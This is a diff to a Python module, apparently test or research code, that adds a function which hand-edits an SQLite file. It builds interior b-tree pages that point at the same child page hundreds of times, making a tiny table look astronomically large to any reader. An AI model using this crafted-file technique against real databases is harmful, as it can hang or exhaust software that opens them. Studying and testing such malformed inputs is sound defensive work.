@@ -49,6 +49,29 @@ def deleting_journal(database: Path, victim: Path) -> Path:
     return journal
 
 
+def endless_pages(database: Path, table: str, *, levels: int = 4, fan: int = 500) -> None:
+    """Make a table of few rows one of fan ** (levels - 1) times as many: each page is many times in the one above it."""
+    with closing(sqlite3.connect(database)) as connection:
+        query = "SELECT rootpage FROM sqlite_schema WHERE name = ?"
+        (root,) = connection.execute(query, (table,)).fetchone()
+    content = bytearray(database.read_bytes())
+    page = int.from_bytes(content[16:18])
+
+    def above(child: int) -> bytes:
+        cells = [struct.pack(">I", child) + bytes([0x80 + n // 128, n % 128]) for n in range(fan)]
+        start = page - sum(map(len, cells))
+        places = [start + len(cells[0]) * n for n in range(fan)]
+        head = struct.pack(f">BHHHBI{fan}H", 5, 0, fan, start, 0, child, *places)
+        return head.ljust(start, b"\0") + b"".join(cells)
+
+    content += content[(root - 1) * page : root * page]
+    for _ in range(levels - 2):
+        content += above(len(content) // page)
+    content[(root - 1) * page : root * page] = above(len(content) // page)
+    content[28:32] = struct.pack(">I", len(content) // page)
+    database.write_bytes(content)
+
+
 def reads(database: Path) -> None:
     """What SQLite does by itself."""
     with closing(sqlite3.connect(database)) as connection:
